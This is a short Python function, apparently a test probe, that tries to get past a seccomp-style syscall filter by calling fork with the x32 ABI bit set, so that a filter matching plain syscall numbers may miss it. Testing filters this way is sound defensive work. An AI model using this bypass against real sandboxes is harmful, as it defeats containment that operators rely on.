"""Forks by the number that x32 programs use: a filter that compares plain numbers may let it by."""

import ctypes
import os
import platform


def attack():
    if platform.machine() != "x86_64":
        return False
    X32, FORK = 0x40000000, 57
    child = ctypes.CDLL(None).syscall(X32 | FORK)
    if child == 0:
        os._exit(0)
    return child > 0 and os.waitpid(child, 0)[1] == 0
